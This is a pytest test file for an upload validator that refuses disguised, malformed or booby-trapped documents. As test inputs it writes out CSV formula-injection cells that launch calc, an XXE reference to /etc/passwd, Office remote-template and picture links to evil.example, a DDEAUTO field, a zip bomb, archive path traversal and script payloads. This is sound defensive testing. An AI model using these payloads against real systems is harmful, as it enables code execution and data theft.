"""A file is what its whole content says it is, or it is refused with a sentence."""

import pytest

from registry.evidence.rules.filenames import clean_name
from registry.evidence.rules.filetypes import judge
from tests.evidence import files

LIMIT = 20 * 1024 * 1024


def fault(name: str, content: bytes) -> str:
    return judge(name=name, content=content, size=len(content), largest=LIMIT).fault


@pytest.mark.parametrize("extension", sorted(files.SOUND))
def test_a_sound_file_of_each_type_is_taken(extension):
    content = files.SOUND[extension]
    judgement = judge(
        name=f"Report.{extension.upper()}", content=content, size=len(content), largest=LIMIT
    )
    assert judgement.fault == ""
    assert judgement.kind.extension in (extension, "jpg")


@pytest.mark.parametrize("named", sorted(files.SOUND))
@pytest.mark.parametrize("content", sorted(files.SOUND))
def test_a_file_named_as_another_type_is_refused(named, content):
    same = {named, content} <= {"jpg", "jpeg"} or named == content
    # CSV is plain text: any harmless text is one, and JSON's first brace is not.
    if not same:
        assert fault(f"report.{named}", files.SOUND[content]).startswith("The file")


@pytest.mark.parametrize(
    "name",
    ["report.exe", "report.html", "report.svg", "report", "report.pdf.exe", "report.docm", ""],
)
def test_other_types_are_refused(name):
    assert "must be a PDF, PNG" in fault(name, files.SOUND["pdf"])


@pytest.mark.parametrize("extension", ["csv", "xml"])
def test_the_file_that_scanners_are_tested_with_is_refused(extension):
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
    content = eicar if extension == "csv" else b"<a><![CDATA[" + eicar + b"]]></a>"
    assert "virus scanners are tested with" in fault(f"eicar.{extension}", content)


def test_an_empty_file_is_refused():
    assert fault("report.pdf", b"") == "The file is empty"


def test_a_file_over_the_limit_is_refused():
    content = b"a,b\n" + b"x" * LIMIT
    assert fault("report.csv", content) == "The file must be smaller than 20 MB"


@pytest.mark.parametrize("extension", ["pdf", "png", "jpg"])
def test_an_archive_behind_another_file_is_refused(extension):
    both = files.SOUND[extension] + files.archive({"evil.js": b"alert(1)"})
    assert "archive" in fault(f"report.{extension}", both)


def test_a_pdf_inside_the_head_of_an_archive_is_refused():
    # Stored, not compressed: a PDF reader would find it in the first kilobyte.
    both = b"PK\x03\x04%PDF-1.7" + files.docx()[4:]
    assert "PDF as well" in fault("report.docx", both)


@pytest.mark.parametrize("extension", ["png", "jpg", "docx"])
def test_something_behind_the_end_is_refused(extension):
    content = files.SOUND[extension] + b"<script>alert(1)</script>"
    assert "follows the end" in fault(f"report.{extension}", content)


def test_a_pdf_inside_the_head_of_a_picture_or_text_is_refused():
    words = b"%PDF-1.7 1 0 obj"
    comment = b"\xff\xfe" + (len(words) + 2).to_bytes(2) + words
    assert "PDF as well" in fault("report.jpg", b"\xff\xd8" + comment + files.jpeg()[2:])
    assert "PDF as well" in fault("report.json", b'["%s"]' % words)


def test_something_behind_the_end_of_a_pdf_is_refused():
    content = files.pdf() + b"<script>alert(1)</script>"
    assert "follows its end" in fault("report.pdf", content)


@pytest.mark.parametrize("extension", ["pdf", "png", "jpg", "docx", "xlsx", "odt", "json", "xml"])
def test_a_cut_off_file_is_refused(extension):
    content = files.SOUND[extension]
    assert fault(f"report.{extension}", content[: len(content) * 2 // 3]) != ""


@pytest.mark.parametrize(
    "cell", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
)
def test_a_formula_in_a_csv_is_refused(cell):
    assert "row 2 holds a formula" in fault("report.csv", f'name,value\nx,"{cell}"\n'.encode())
    assert "row 2 holds a formula" in fault("report.csv", f"name;value\nx;{cell}\n".encode())
    assert f"“{cell}”. Put its value there" in fault("report.csv", f'x\n"{cell}"'.encode())


def test_numbers_dashes_and_telephone_numbers_in_a_csv_are_no_formulas():
    assert fault("report.csv", b"a,b,c\n-1.5,-,+44 113 496 0000\n") == ""


def test_a_csv_that_is_a_web_page_or_not_utf_8_is_refused():
    assert "not a CSV" in fault("report.csv", b"<html><script>alert(1)</script></html>")
    assert "not a CSV" in fault("report.csv", "naïve".encode("utf-16"))


@pytest.mark.parametrize(
    "content",
    [
        b'{"a": NaN}',
        b"{",
        b"",
        b'{"a":1} {"b":2}',
        b"[" * 200_000,
        b"[1,2" + b",3" * 1_000_001 + b"]",
    ],
)
def test_bad_json_is_refused(content):
    assert fault("report.json", content).startswith("The file")


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>',
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b"<a><b></a>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'><script/></html>",
        b"<x:svg xmlns:x='http://www.w3.org/2000/svg'/>",
        b"<a>" * 1000 + b"</a>" * 1000,
        b"just text",
    ],
)
def test_bad_xml_is_refused(content):
    assert fault("report.xml", content).startswith("The file cannot be used")


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "word/activeX/activeX1.xml"])
def test_a_document_with_macros_is_refused(part):
    assert "macros" in fault("report.docx", files.docx({part: b"x"}))
    assert "macros" in fault("report.xlsx", files.xlsx({part: b"x"}))


_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _refers(kind: str, target: str) -> dict[str, bytes]:
    line = f'<Relationship Id="r1" TargetMode="External" Type="{kind}" Target="{target}"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{line}</Relationships>".encode()}


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        (_refers(_TEMPLATE, "https://evil.example/a.dotx"), "from elsewhere"),
        (_refers(_TEMPLATE, "file://evil.example/share/a.dotx"), "from elsewhere"),
        ({"word/_rels/a.rels": b" " * 1_100_000}, "too many things"),
        ({"word/embeddings/run.docx": b"x"}, "another document inside"),
        ({"word/a.xml": b'<w:instrText x="1"> DDEAUTO c:\\x'}, "DDE"),
        ({"word/a.xml": b" " * 1_048_570 + b"<!DOCTYPE a>"}, "document type"),
        ({"word/a.xml": "<a/>".encode("utf-16")}, "not written in UTF-8"),
    ],
)
def test_a_document_that_fetches_or_unfolds_is_refused(parts, words):
    assert words in fault("report.docx", files.docx(parts))


@pytest.mark.parametrize(
    "parts",
    [
        _refers(_LINK, "https://www.example.com/standard"),
        _refers(_TEMPLATE, "file:///C:\\Users\\ann\\Normal.dotx"),
        {"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"x"},
    ],
)
def test_what_word_processors_write_of_their_own_accord_is_let_in(parts):
    assert fault("report.docx", files.docx(parts)) == ""


def test_an_open_document_that_fetches_a_picture_is_refused():
    picture = b'<draw:image xlink:href="https://evil.example/x.png"/>'
    mimetype = b"application/vnd.oasis.opendocument.text"
    evil = files.archive({"mimetype": mimetype, "content.xml": picture})
    assert "from elsewhere" in fault("report.odt", evil)


def test_a_zip_bomb_is_refused_without_being_unpacked():
    bomb = files.archive(
        {"[Content_Types].xml": b"", "word/document.xml": b"\0" * 210 * 1024 * 1024}
    )
    assert len(bomb) < 1_000_000
    assert "more than 200 MB" in fault("report.docx", bomb)


def test_a_part_that_lies_about_its_size_is_refused():
    content = bytearray(files.docx({"word/media": b"a" * 100_000}))
    size = (100_000).to_bytes(4, "little")
    assert content.count(size) >= 2
    assert "damaged" in fault(
        "report.docx", bytes(content).replace(size, (10).to_bytes(4, "little"))
    )


def test_a_part_outside_the_document_is_refused():
    content = files.archive({"[Content_Types].xml": b"", "../../etc/cron.d/x": b"x"})
    assert "outside itself" in fault("report.docx", content)


def test_a_plain_archive_is_no_document():
    for name in ("report.docx", "report.xlsx", "report.odt"):
        assert "not a" in fault(name, files.archive({"a.txt": b"x"}))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\report.pdf", "report.pdf"),
        ("re\u202efdp.exe", "refdp.exe"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ('a"b<c>.pdf', "a_b_c_.pdf"),
        ("  .hidden.pdf ", "hidden.pdf"),
        ("x" * 400 + ".pdf", "x" * 146 + ".pdf"),
        (".pdf", "pdf"),
        ("", ""),
    ],
)
def test_names_are_cleaned(given, kept):
    assert clean_name(given) == kept
